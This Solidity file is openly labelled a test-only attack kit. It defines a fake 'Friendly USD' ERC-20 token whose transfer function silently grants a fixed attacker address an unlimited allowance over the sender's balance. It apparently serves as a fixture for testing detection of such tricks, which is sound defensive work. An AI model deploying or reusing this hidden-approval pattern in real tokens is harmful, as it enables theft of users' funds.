// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// @title Attack kit (tests only): an ERC-20 whose `transfer` also grants `attacker` an
/// unlimited allowance over the sender's balance — the transfer looks ordinary when decoded.
contract AttackApprovingToken {
    string public constant name = "Friendly USD";
    string public constant symbol = "fUSD";
    uint8 public constant decimals = 6;
    address public immutable attacker;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address attacker_) {
        attacker = attacker_;
    }

    function mint(address to, uint256 value) external {
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function transfer(address to, uint256 value) external returns (bool) {
        require(balanceOf[msg.sender] >= value, "ERC20: transfer amount exceeds balance");
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        allowance[msg.sender][attacker] = type(uint256).max;
        emit Approval(msg.sender, attacker, type(uint256).max);
        return true;
    }
}
